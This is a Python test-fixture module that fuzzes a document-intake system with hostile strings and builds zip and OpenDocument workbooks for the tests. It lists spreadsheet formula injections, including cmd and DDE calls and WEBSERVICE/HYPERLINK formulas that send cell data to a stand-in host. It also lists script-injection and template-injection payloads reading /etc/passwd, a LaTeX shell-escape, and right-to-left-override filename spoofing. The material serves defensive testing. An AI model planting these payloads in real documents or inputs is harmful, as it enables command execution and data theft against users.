"""Files and texts made to do harm: what several rooms plant where a delivery comes in."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from hypothesis import strategies as st

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://x.se/?"&A1,"Klicka")',
    '=WEBSERVICE("https://x.se/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
)
MARKUP = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    "</title></style><svg/onload=alert(1)>",
    "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "javascript:alert(1)",
    '#eval("1") #import "/etc/passwd": * #read("/etc/passwd")',
    '"] #panic() $ x^2 $ @a <b> \\ // /* *",',
    "\\input{/etc/passwd} \\write18{id} $$ %",
    "[a](javascript:alert(1)) ![b](https://x.se/b.png) **c** `d`",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7}",
    "| a | b |\n|---|---|\n# rubrik",
    ']]></w:t><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText>',
    "_x0041_ _x000D_",
)
UNSEEN = (
    "a\x1b[31mrött\x1b]0;titel\x07",
    "a\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "a\N{RIGHT-TO-LEFT ISOLATE}b\N{LEFT-TO-RIGHT MARK}",
    "a\N{ZERO WIDTH JOINER}b\N{SOFT HYPHEN}c",
    "a\x0bb\x85c\N{LINE SEPARATOR}d",
    "a\x7f\x9bc",
    "å" + "\N{COMBINING DIAERESIS}" * 80,
    "a\ufffe\uffff\ue000",
)
LONG = ("x" * 480, "xy " * 160, "å" * 480)
NASTY = (*FORMULAS, *MARKUP, *UNSEEN, *LONG)
"""Each of these has done harm somewhere."""

PIECES = st.sampled_from(
    [
        *"<>\"'&#\\$=+-@;,|{}[]()*_`~\n\t\r\x1b\u202eaÅ ",
        "//",
        "]]>",
        "<!--",
        "-->",
        "&#",
        "{{",
        "}}",
    ]
)
TEXTS = st.sampled_from(NASTY) | st.lists(PIECES, max_size=30).map("".join)


def unpacked(content: bytes) -> dict[str, bytes]:
    """Give the parts of a workbook or a zip, by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Pack parts as a zip."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", method) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def ods(rows: bytes) -> bytes:
    """Give an OpenDocument workbook with one sheet ``leverans`` and these rows."""
    names = b" ".join(
        b'xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (name, name)
        for name in (b"office", b"table", b"text")
    )
    body = (
        b'<?xml version="1.0"?><office:document-content %s><office:body><office:spreadsheet>'
        b'<table:table table:name="leverans">%s</table:table>'
        b"</office:spreadsheet></office:body></office:document-content>" % (names, rows)
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind, "META-INF/manifest.xml": b"<a/>", "content.xml": body})
